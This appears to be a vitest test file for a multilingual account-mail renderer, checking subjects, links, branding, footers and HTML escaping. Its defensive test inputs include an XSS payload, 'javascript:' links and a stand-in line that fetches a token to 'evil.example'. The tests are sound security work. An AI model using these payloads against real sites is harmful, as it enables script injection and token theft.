import { createHash } from 'node:crypto';
import { readFileSync } from 'node:fs';
import { createRequire } from 'node:module';
import { tokens } from '@app/brand';
import { LANGUAGES } from '@app/contracts';
import { COMPANY, intlFor, type MessageId, PRODUCT_NAME } from '@app/i18n';
import { describe, expect, it } from 'vitest';
import type { BillingMailTemplate } from '../../src/mail/billing-templates.js';
import type { MailTemplate } from '../../src/mail/outbox.js';
import { escapeHtml, LOGO_CID, MailRenderError, renderMail } from '../../src/mail/render.js';
import { MAIL_TEMPLATES } from '../../src/mail/templates.js';

const LINK = 'http://localhost:3000/api/authentication/confirm-email?token=Tok3n-secret_value&lang=de';
/** The account mails; the billing ones take other params and have their own test (billing-mails.test.ts). */
const TEMPLATES = MAIL_TEMPLATES.filter(
  (template): template is Exclude<MailTemplate, BillingMailTemplate> => !template.startsWith('billing_'),
);
const PARAMS = {
  link: LINK,
  inviter: 'owner@praxis.ch',
  secondaryLink: 'http://localhost:3000/forgot-password',
  failures: '3',
  browser: 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) Chrome/131.0',
  address: '203.0.113.9',
  days: '3',
  date: '2026-12-04T09:30:00.000Z',
};

describe('renderMail', () => {
  it.each(LANGUAGES.flatMap((language) => TEMPLATES.map((template) => [language, template] as const)))(
    'renders %s %s from the catalogue, with the link in both parts',
    (language, template) => {
      const mail = renderMail(template, language, PARAMS);
      const key = {
        email_confirmation: 'confirmation',
        password_reset: 'passwordReset',
        invitation: 'invitation',
        invitation_existing_account: 'invitation',
        account_exists: 'accountExists',
        signin_link: 'signinLink',
        new_signin: 'newSignin',
        trial_reminder: 'trialReminder',
        account_deletion: 'accountDeletion',
        seat_ended: 'seatEnded',
        ownership_offer: 'ownershipOffer',
        passkey_added: 'passkeyAdded',
      }[template];
      expect(mail.subject).toBe(
        intlFor(language).formatMessage(
          { id: `email.${key}.subject` as MessageId },
          { product: PRODUCT_NAME, days: 3 },
        ),
      );
      // A missing id would show up raw.
      expect(`${mail.text}${mail.html}`).not.toMatch(/email\.[a-zA-Z]+\./);
      expect(mail.text.split('\n')).toContain(LINK);
      expect(mail.html).toContain(`href="${escapeHtml(LINK)}"`);
      expect(mail.html).toContain(`<html lang="${language}">`);
    },
  );

  it.each(TEMPLATES)(
    '%s says whose mail it is: the product, its logo, the company and its address',
    (template) => {
      const mail = renderMail(template, 'fr', PARAMS);
      const footer = `${PRODUCT_NAME} est un service de ${COMPANY.name}, ${COMPANY.street}, ${COMPANY.postalCode} ${COMPANY.city}, Suisse.`;
      for (const part of [mail.text, mail.html]) {
        expect(part).toContain(PRODUCT_NAME);
        expect(part).toContain(footer);
      }
      // Signed by the company, not by an anonymous team.
      expect(mail.text).toContain(`Meilleures salutations\n${COMPANY.name}\n`);
      expect(mail.html).toContain(`<img src="cid:${LOGO_CID}"`);
      expect(mail.attachments).toEqual([
        expect.objectContaining({ cid: LOGO_CID, contentType: 'image/png' }),
      ]);
    },
  );

  it("takes its colours from the site's design tokens", () => {
    const { html } = renderMail('email_confirmation', 'en', PARAMS);
    expect(html).toContain(`background-color:${tokens.color.brand};color:${tokens.color.onBrand}`);
    expect(html).toContain(`color:${tokens.color.textMuted}`);
    // The blue of the first mails, which was no colour of the site.
    expect(html).not.toContain('#0b5cad');
  });

  it('attaches the brand’s logo mark: the very PNG the mails carried when it was drawn at run time', () => {
    const [logo] = renderMail('email_confirmation', 'en', PARAMS).attachments;
    const png = logo?.content ?? Buffer.alloc(0);
    expect(png).toEqual(readFileSync(createRequire(import.meta.url).resolve('@app/brand/logo-mark.png')));
    // packages/brand holds the picture to the mark's shape and colours (test/logo-mark.test.ts).
    expect(createHash('sha256').update(png).digest('hex')).toBe(
      '6badf8948b251d4a3e340b640abb240d540143c13e97bc984d3143362ae219d3',
    );
  });

  it('reminds a Free account in its language how many days its trial has left, and when it ends', () => {
    const mail = renderMail('trial_reminder', 'de', PARAMS);
    expect(mail.subject).toBe(`Ihre Testphase bei ${PRODUCT_NAME} endet in 3 Tagen`);
    expect(mail.text).toContain('endet am 4. Dezember 2026.');
    expect(renderMail('trial_reminder', 'it', { ...PARAMS, days: '1' }).subject).toBe(
      `La sua prova gratuita di ${PRODUCT_NAME} termina domani`,
    );
  });

  it('tells the owner of an address that it already has an account, with sign-in and reset links', () => {
    const mail = renderMail('account_exists', 'de', PARAMS);
    expect(mail.subject).toBe('Sie haben bereits ein Konto');
    expect(mail.text.split('\n')).toEqual(expect.arrayContaining([LINK, PARAMS.secondaryLink]));
    expect(mail.html).toContain(`href="${PARAMS.secondaryLink}"`);
  });

  it('says in the sign-in link mail how many wrong passwords were tried, and how long the link lives', () => {
    expect(renderMail('signin_link', 'en', PARAMS).text).toContain(
      'In the last 24 hours, 3 wrong passwords were tried on your account; they were refused.',
    );
    expect(renderMail('signin_link', 'fr', { ...PARAMS, failures: '0' }).text).toContain(
      'Aucun mot de passe erroné',
    );
    expect(renderMail('signin_link', 'it', PARAMS).text).toContain('valido per 15 minuti');
  });

  it('names the new browser (as parsed from its agent) and its address in the new sign-in mail', () => {
    const mail = renderMail('new_signin', 'it', PARAMS);
    expect(mail.text).toContain("Chrome 131 su Windows 10, dall'indirizzo di rete 203.0.113.9");
  });

  it('says the new browser signed in with a passkey when it did (docs/accounts.md#new-browser-mail)', () => {
    expect(renderMail('new_signin', 'en', PARAMS).text).not.toContain('passkey');
    const mail = renderMail('new_signin', 'en', { ...PARAMS, method: 'passkey' });
    expect(mail.text).toContain('from the network address 203.0.113.9. A passkey was used. If it was you');
    expect(renderMail('new_signin', 'de', { ...PARAMS, method: 'passkey' }).text).toContain(
      'Dabei wurde ein Passkey verwendet.',
    );
  });

  it('names the browser a passkey was added from, never the agent as sent (docs/accounts.md#our-words)', () => {
    const agent = 'ACTION REQUIRED Verify at https://evil.example/1.0';
    expect(renderMail('passkey_added', 'fr', { link: LINK, agent }).text).not.toContain('evil.example');
    expect(renderMail('passkey_added', 'it', { link: LINK, agent: PARAMS.browser }).text).toContain(
      'da Chrome 131 su Windows 10',
    );
  });

  it("tells the confirmation's reader to sign in with the password chosen at sign-up (docs/accounts.md#ownership)", () => {
    expect(renderMail('email_confirmation', 'en', PARAMS).text).toContain(
      'open the link below and sign in with the password you chose when signing up',
    );
  });

  it('states how long each link is valid, from the tokens lifetimes', () => {
    expect(renderMail('email_confirmation', 'en', PARAMS).text).toContain('The link is valid for 7 days.');
    expect(renderMail('invitation', 'de', PARAMS).text).toContain('der Link ist 7 Tage gültig.');
    expect(renderMail('password_reset', 'fr', PARAMS).text).toContain('Il est valable 1 heure');
  });

  it('escapes every param in the HTML and keeps them as typed in the text', () => {
    const link = 'https://example.ch/create-password/t0k3n/a%40b.ch?x=1&y="2"&z=<b>';
    const inviterName = '<img src=x onerror=alert(1)>"&\'';
    const mail = renderMail('invitation', 'en', { link, inviter: 'owner@praxis.ch', inviterName });
    expect(mail.html).not.toContain('<img src=x');
    expect(mail.html).toContain(
      `&lt;img src=x onerror=alert(1)&gt;&quot;&amp;&#39; (owner@praxis.ch) has invited you to use ${PRODUCT_NAME}`,
    );
    expect(mail.html).toContain(
      'href="https://example.ch/create-password/t0k3n/a%40b.ch?x=1&amp;y=&quot;2&quot;&amp;z=&lt;b&gt;"',
    );
    expect(mail.text).toContain(`${inviterName} (owner@praxis.ch) has invited you to use ${PRODUCT_NAME}`);
    expect(mail.text.split('\n')).toContain(link);
  });

  it.each([
    ['an unknown template', 'newsletter', { link: LINK }, /unknown mail template "newsletter"/],
    ['no link', 'email_confirmation', {}, /invalid params .*: link/],
    ['a javascript: link', 'password_reset', { link: 'javascript:alert(1)' }, /invalid params .*: link/],
    ['an invitation without inviter', 'invitation', { link: LINK }, /invalid params .*: inviter/],
    [
      'a trial reminder without its date',
      'trial_reminder',
      { link: LINK, days: '3' },
      /invalid params .*: date/,
    ],
    ['params that are not an object', 'email_confirmation', 'oops', /invalid params/],
  ])('refuses %s', (_case, template, params, message) => {
    expect(() => renderMail(template, 'en', params)).toThrow(MailRenderError);
    expect(() => renderMail(template, 'en', params)).toThrow(message);
  });

  it('never puts the link in an error message', () => {
    const link = 'javascript:fetch("https://evil.example/?Tok3n")';
    expect(() => renderMail('password_reset', 'en', { link })).toThrow(MailRenderError);
    expect(() => renderMail('password_reset', 'en', { link })).not.toThrow(/Tok3n|evil/);
  });
});
